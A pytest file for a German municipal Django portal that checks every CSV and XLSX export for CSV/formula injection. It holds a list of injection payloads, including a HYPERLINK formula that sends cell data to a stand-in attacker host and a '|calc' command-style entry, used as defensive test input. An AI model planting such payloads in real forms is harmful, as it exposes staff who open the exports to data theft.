"""No spreadsheet cell the portal writes is ever a formula (CSV injection, OWASP).

Hostile texts go in the ways users put them in: the public registration form of an
event, the applicant's pages of a funding call, and the Werkstattplan (its model: text
fields keep a leading tab or carriage return there). Then every export the portal offers
is fetched and read back, in CSV and XLSX: the events staff export, the Fachdienst's list
of applications (`?format=`), the jury ranking, and every django-import-export admin
export. Exports are found by URL name ("…export…") and in the admin registry, so a new
one that this test does not fetch makes it fail.

XLSX: no cell is a formula, each hostile text comes back exactly as stored (as text), and
numbers, money and dates stay numbers and dates. CSV: no field starts like a formula
(except a plain number such as "-1,50"), and reading the file back through
`SafeCSV().create_dataset` gives the stored text again.
"""

import csv
import datetime
import io
import re
from decimal import Decimal

import pytest
from django.contrib import admin
from django.contrib.auth.models import User
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from events import services as event_services
from events.models import Anmeldung
from foerderung import services as foerderung_services
from foerderung.models import Antrag, Status
from tests.factories import (
    KommuneFactory,
    TeilnahmeoptionFactory,
    VeranstaltungFactory,
    koordination_user,
)
from tests.foerderung.factories import (
    AufrufFactory,
    JuryFactory,
    KriteriumFactory,
    UserFactory,
    fachdienst_user,
)
from werkstattplan.models import Handlungsfeld, Massnahme, Werkstattplan, Werkzeug
from zwk_portal.exports import FORMULA_START, SafeCSV

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
    "+SUM(1;2)",
    "-2+3",
    "@SUM(A1)",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "|calc!A1",
    "%0A=1",
]
# A field may start like this only when it is a plain number: "-1,50", "2500,00".
PLAIN_NUMBER = re.compile(r"-?\d+(,\d+)?")
# Text cells that look like an amount or a date, which should have been one ("1.500,25",
# "31.12.2026 18:00"). A lone "4" may be a list of one month, and stays text.
LOOKS_NUMERIC = re.compile(r"-?[\d.]*\d,\d+( €)?|\d\d\.\d\d\.\d{4}( \d\d:\d\d)?")

# Exports reached by URL (besides the admin's), and how this test fetches them.
URL_EXPORTS = {
    "admin:werkstattplan_werkstattplan_tabelle_export",
    "events:staff_export",
    "events:staff_fragen_export",
    "foerderung:jury_export",
    "foerderung:verwaltung_aufruf_export",
}


def _form(option, i: int, text: str) -> dict:
    return {
        "option": option.pk,
        "name": text,
        "email": f"person{i}@example.org",
        "organisation": text,
        "telefon": "",
        "barrierefreiheit": text,
        "frage": text,
        "datenschutz": "on",
        "website": "",
        "submission_key": f"{i + 1:032d}",
    }


def _application(antrag, i: int) -> dict:
    """Application i of three: its organisation, contact and title are hostile texts."""
    organisation, kontakt, title = HOSTILE[3 * i : 3 * i + 3]
    aufruf = antrag.aufruf
    return {
        "organisation": organisation,
        "art": "verein",
        "rechtsform": "eingetragener Verein",
        "strasse": "Dorfstraße 1",
        "plz": "19288",
        "ort": "Ludwigslust",
        "gemeinde": "Ludwigslust",
        "kontakt_name": kontakt,
        "email": f"verein{i}@example.org",
        "telefon": "03874 000000",
        "kontoinhaber": "Heimatverein",
        "iban": "DE89 3704 0044 0532 0130 00",
        "title": title,
        "kurzbeschreibung": organisation,
        "description": "Bänke und Tisch",
        "mehrwert": "Begegnung",
        "zielgruppen": "Alle",
        "generationen": ["kinder", "senioren"],
        "partner": "",
        "projektort": "Dorfplatz",
        "beginn": aufruf.umsetzung_von.isoformat(),
        "ende": aufruf.umsetzung_bis.isoformat(),
        "eigenmittel": "500,00",
        "drittmittel": "0",
        "beantragt": "1500,50",
        "erklaerung_nicht_begonnen": "on",
        "erklaerung_richtig": "on",
        "datenschutz": "on",
        "kosten-TOTAL_FORMS": "1",
        "kosten-INITIAL_FORMS": "0",
        "kosten-MIN_NUM_FORMS": "0",
        "kosten-MAX_NUM_FORMS": "1000",
        "kosten-0-bezeichnung": title,
        "kosten-0-betrag": "2000,50",
        "aktion": "einreichen",
    }


@pytest.fixture
def hostile(client, settings, django_capture_on_commit_callbacks):
    """A Kommune whose registrations, applications and Werkstattplan carry the hostile texts.

    Returns what each export must contain: the stored texts per model (what the forms and
    the model kept of the typed text: a form strips a leading tab, a one-line field drops
    control characters).
    """
    settings.ZWK_REQUIRE_2FA = False
    settings.EVENTS_RATE_LIMIT_PER_ADDRESS = settings.EVENTS_RATE_LIMIT_PER_EMAIL = 100
    kommune = KommuneFactory(slug="landkreis-feindlich", name="Landkreis Feindlich")

    # Registrations, through the public form.
    event = VeranstaltungFactory(
        kommune=kommune,
        slug="buergerdialog",
        beginn=timezone.now() + datetime.timedelta(days=14),
        ende=timezone.now() + datetime.timedelta(days=14, hours=2),
    )
    option = TeilnahmeoptionFactory(veranstaltung=event, kapazitaet=100)
    url = f"/{kommune.slug}/veranstaltungen/{event.slug}/"
    for i, text in enumerate(HOSTILE):
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(url, _form(option, i, text))
        assert response.status_code == 302, response.content.decode()[:2000]
    assert Anmeldung.objects.filter(veranstaltung=event).count() == len(HOSTILE)

    # Applications, through the applicant's pages; then checked, scored, one granted in part.
    aufruf = AufrufFactory(kommune=kommune, published=True, budget=Decimal("30000.00"))
    kriterium = KriteriumFactory(aufruf=aufruf)
    fachdienst = fachdienst_user(kommune, username="fachdienst-feindlich")
    chair = JuryFactory(aufruf=aufruf, vorsitz=True, mitglied__username="vorsitz-feindlich")
    chair = chair.mitglied
    for i in range(len(HOSTILE) // 3):
        applicant = UserFactory(username=f"verein{i}@example.org")
        client.force_login(applicant)
        response = client.post(
            reverse("foerderung:antrag_neu", kwargs={"kommune": kommune.slug, "pk": aufruf.pk})
        )
        antrag = Antrag.objects.get(antragsteller=applicant)
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(response["Location"], _application(antrag, i))
        assert response.status_code == 302, response.content.decode()[:3000]
        antrag.refresh_from_db()
        assert antrag.status == Status.EINGEREICHT
        with django_capture_on_commit_callbacks(execute=True):
            foerderung_services.step(antrag=antrag, by=fachdienst)
            foerderung_services.forward_to_jury(antrag=antrag, by=fachdienst)
        foerderung_services.declare_bias(antrag=antrag, by=chair, befangen=False)
        foerderung_services.score(antrag=antrag, by=chair, punkte={kriterium.pk: (i, HOSTILE[i])})
    client.logout()
    with django_capture_on_commit_callbacks(execute=True):
        foerderung_services.decide(
            antrag=Antrag.objects.order_by("pk").first(),
            by=fachdienst,
            entscheidung="teilbewilligung",
            betrag=Decimal("1234.56"),
            begruendung=HOSTILE[0],
        )

    # The Werkstattplan: named through the model, which keeps a leading tab in text fields.
    plan = Werkstattplan.objects.create(
        kommune=kommune,
        title=HOSTILE[0],
        slug="plan",
        first_year=2026,
        last_year=2027,
        stand=datetime.date(2026, 9, 30),
        published=True,
    )
    for i, text in enumerate(HOSTILE):
        feld = Handlungsfeld.objects.create(plan=plan, position=i, name=text, leitziel=text)
        werkzeug = Werkzeug.objects.create(
            handlungsfeld=feld,
            position=1,
            title=text,
            description=text,
            ansprechperson=text,
            jahre=[2026, 2027],
            budget=Decimal("1500.25"),
        )
        Massnahme.objects.create(werkzeug=werkzeug, position=1, title=text, jahr=2026, monate=[4])

    def stored(queryset, *fields):
        return {value for row in queryset.values_list(*fields) for value in row}

    anmeldungen = stored(Anmeldung.objects.all(), "name", "organisation", "frage")
    antraege = stored(Antrag.objects.all(), "organisation", "kontakt_name", "title")
    felder = stored(Handlungsfeld.objects.all(), "name")
    werkzeuge = stored(Werkzeug.objects.all(), "description")
    massnahmen = stored(Massnahme.objects.all(), "title")
    expected = {
        Anmeldung: anmeldungen,
        Antrag: antraege,
        Werkstattplan: felder | werkzeuge | massnahmen,
        Handlungsfeld: felder,
        Werkzeug: werkzeuge,
        Massnahme: massnahmen,
    }
    # What was stored still starts like a formula: the test is about something.
    for texts in expected.values():
        assert len(texts) >= 7 and all(t[:1] in FORMULA_START for t in texts), texts
    # The model keeps the tab and the carriage return in multi-line text.
    assert {"\t=1+1", "\r=1+1"} <= werkzeuge
    superuser = User.objects.create_superuser("admin-feindlich", "admin@example.org", "x")
    return {
        **expected,
        "jury": stored(Antrag.objects.all(), "organisation", "title"),
        "all_texts": set().union(*expected.values()),
        "event": event,
        "plan": plan,
        "aufruf": aufruf,
        "koordination": koordination_user(kommune, username="koordination-feindlich"),
        "fachdienst": fachdienst,
        "chair": chair,
        "superuser": superuser,
    }


# ------------------------------------------------------------- reading back


def _xlsx_cells(label: str, content: bytes) -> list:
    """Every cell below the header; none is a formula, and text that starts like one keeps
    Excel's quote prefix, so that editing the cell later does not make it one either."""
    workbook = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                where = f"{label} {sheet.title}!{cell.coordinate}"
                assert cell.data_type != "f", f"{where} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    assert cell.quotePrefix, f"{where}: {cell.value!r} without quote prefix"
                if cell.value is not None:
                    cells.append(cell.value)
    return cells


def check_xlsx(label: str, content: bytes, expected: set[str], all_texts: set[str]) -> list:
    """The values read back; fails on formulas, lost or changed texts, numbers as text."""
    assert content[:2] == b"PK", f"{label}: not an XLSX file"
    # XML reads a carriage return as a line feed, in every reader (Excel too): "\r=1+1"
    # comes back as "\n=1+1", still text.
    expected, all_texts = _as_xml_reads(expected), _as_xml_reads(all_texts)
    values = _xlsx_cells(label, content)
    texts = {value for value in values if isinstance(value, str)}
    missing = expected - texts
    assert not missing, f"{label}: these texts did not come back as typed: {missing!r}"
    for value in texts:
        assert not LOOKS_NUMERIC.fullmatch(value), (
            f"{label}: {value!r} is text, but should be a number, an amount or a date"
        )
        _not_distorted(label, value, all_texts)
    return values


def _as_xml_reads(texts: set[str]) -> set[str]:
    return {text.replace("\r\n", "\n").replace("\r", "\n") for text in texts}


def _amount(values, amount: str) -> bool:
    """The amount is among the numbers read back (openpyxl reads them as float)."""
    return any(
        isinstance(v, int | float | Decimal) and abs(Decimal(str(v)) - Decimal(amount)) < 0.005
        for v in values
    )


def _not_distorted(label: str, value: str, all_texts: set[str]):
    """A cell that is a hostile text with something put before it (an apostrophe, a space)."""
    if value in all_texts:
        return
    for text in all_texts:
        assert not (value.endswith(text) and len(value) - len(text) <= 2), (
            f"{label}: {value!r} should read {text!r}"
        )


def check_csv(label: str, content: bytes, expected: set[str], all_texts: set[str]) -> list:
    """The values read back through SafeCSV; fails on fields that start like a formula."""
    assert content.startswith("\ufeff".encode()), f"{label}: no BOM for German Excel"
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert len(rows) > 1, f"{label}: no rows"
    for row in rows:
        for field in row:
            assert not (field[:1] in FORMULA_START and not PLAIN_NUMBER.fullmatch(field)), (
                f"{label}: field {field!r} starts like a formula"
            )
    dataset = SafeCSV().create_dataset(content.decode("utf-8"))
    values = [value for row in dataset for value in row if value not in (None, "")]
    texts = {value for value in values if isinstance(value, str)}
    missing = expected - texts
    assert not missing, f"{label}: these texts did not come back as typed: {missing!r}"
    for value in texts:
        _not_distorted(label, value, all_texts)
    return values


# ------------------------------------------------------------- the exports


def _url_names(patterns, namespace=()) -> set[str]:
    names = set()
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = (*namespace, pattern.namespace) if pattern.namespace else namespace
            names |= _url_names(pattern.url_patterns, inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            names.add(":".join((*namespace, pattern.name)))
    return names


def _export_admins():
    return [
        (model, model_admin)
        for model, model_admin in admin.site._registry.items()
        if hasattr(model_admin, "export_action")
    ]


def _admin_export_name(model) -> str:
    return f"admin:{model._meta.app_label}_{model._meta.model_name}_export"


def _admin_export(client, model, model_admin, fmt: str) -> bytes:
    """The admin's export page as staff use it: every column ticked, the chosen format."""
    url = reverse(_admin_export_name(model))
    formats = [f().get_title() for f in model_admin.get_export_formats()]
    page = client.get(url)
    assert page.status_code == 200, url
    form = page.context["form"]
    data = {
        name: "on"
        for name, field in form.fields.items()
        if getattr(field.widget, "input_type", None) == "checkbox"
    }
    data.update({"format": formats.index(fmt), "resource": 0})
    response = client.post(url, data)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv" if fmt == "csv" else "application/"), (
        f"{url} ({fmt}) gave no file: {response.content.decode()[:500]}"
    )
    return response.content


def test_every_export_is_covered_by_this_test():
    """A new export (a URL named "…export…", an admin with an export page) is fetched below."""
    found = {name for name in _url_names(get_resolver().url_patterns) if "export" in name}
    known = URL_EXPORTS | {_admin_export_name(model) for model, _ in _export_admins()}
    assert found <= known, f"fetch these exports in test_no_cell_is_a_formula: {found - known}"
    # The audit log is read in the admin, not exported; if it becomes exportable, it is above.
    assert {model._meta.model_name for model, _ in _export_admins()} >= {
        "anmeldung",
        "antrag",
        "werkzeug",
    }


def test_no_cell_is_a_formula(client, hostile):
    h = hostile
    read = []

    def check(label: str, fmt: str, content: bytes, expected: set[str]) -> list:
        checker = check_xlsx if fmt == "xlsx" else check_csv
        values = checker(label, content, expected, h["all_texts"])
        read.append(label)
        return values

    def dates(values):
        return [v for v in values if isinstance(v, datetime.date)]

    # The coordination's list of registrations of the event.
    client.force_login(h["koordination"])
    for fmt in ("csv", "xlsx"):
        url = reverse("events:staff_export", kwargs={"pk": h["event"].pk, "fmt": fmt})
        response = client.get(url)
        assert response.status_code == 200, url
        values = check(f"events:staff_export {fmt}", fmt, response.content, h[Anmeldung])
        if fmt == "xlsx":
            assert len(dates(values)) >= len(HOSTILE), "registration times are not dates"
    # The ideas and questions of the registrants (confirmed ones only, so confirm them).
    for anmeldung in Anmeldung.objects.filter(veranstaltung=h["event"]):
        event_services.confirm(anmeldung=anmeldung)
    for fmt in ("csv", "xlsx"):
        url = reverse("events:staff_fragen_export", kwargs={"pk": h["event"].pk, "fmt": fmt})
        response = client.get(url)
        assert response.status_code == 200, url
        check(f"events:staff_fragen_export {fmt}", fmt, response.content, h[Anmeldung])

    # The Fachdienst's list of applications.
    client.force_login(h["fachdienst"])
    for fmt in ("csv", "xlsx"):
        response = client.get(reverse("foerderung:verwaltung_antraege"), {"format": fmt})
        assert response.status_code == 200
        values = check(f"verwaltung_antraege {fmt}", fmt, response.content, h[Antrag])
        if fmt == "xlsx":
            assert _amount(values, "1500.50") and _amount(values, "1234.56")
            assert len(dates(values)) >= 2 * Antrag.objects.count(), "Beginn, Ende: not dates"
        else:
            assert "1500,50" in values and "1234,56" in values

    # The call's money and cases, for the committee.
    response = client.get(
        reverse("foerderung:verwaltung_aufruf_export", kwargs={"pk": h["aufruf"].pk})
    )
    assert response.status_code == 200
    values = check("foerderung:verwaltung_aufruf_export xlsx", "xlsx", response.content, h["jury"])
    assert _amount(values, "1234.56")

    # The jury's ranking.
    client.force_login(h["chair"])
    response = client.get(reverse("foerderung:jury_export", kwargs={"pk": h["aufruf"].pk}))
    assert response.status_code == 200
    values = check("foerderung:jury_export xlsx", "xlsx", response.content, h["jury"])
    assert _amount(values, "1500.50") and _amount(values, "1234.56")

    # The whole Werkstattplan as one table, as the coordination downloads it.
    client.force_login(h["koordination"])
    for fmt in ("csv", "xlsx"):
        url = reverse(
            "admin:werkstattplan_werkstattplan_tabelle_export",
            kwargs={"object_id": h["plan"].pk, "fmt": fmt},
        )
        response = client.get(url)
        assert response.status_code == 200, url
        label = f"admin:werkstattplan_werkstattplan_tabelle_export {fmt}"
        values = check(label, fmt, response.content, h[Werkstattplan])
        if fmt == "xlsx":
            assert _amount(values, "1500.25"), f"{label}: the budget is not a number"

    # Every export page of the admin, in both formats (as superuser: whichever role it is for).
    client.force_login(h["superuser"])
    for model, model_admin in _export_admins():
        for fmt in ("csv", "xlsx"):
            label = f"{_admin_export_name(model)} {fmt}"
            content = _admin_export(client, model, model_admin, fmt)
            values = check(label, fmt, content, h.get(model, set()))
            assert set(values) & (h["all_texts"] | _as_xml_reads(h["all_texts"])), (
                f"{label}: no hostile text in this export; give {model.__name__} some above"
            )
            if fmt == "xlsx" and model in (Werkzeug, Werkstattplan):
                assert _amount(values, "1500.25"), f"{label}: the budget is not a number"
    assert len(read) == 10 + 2 * len(_export_admins())
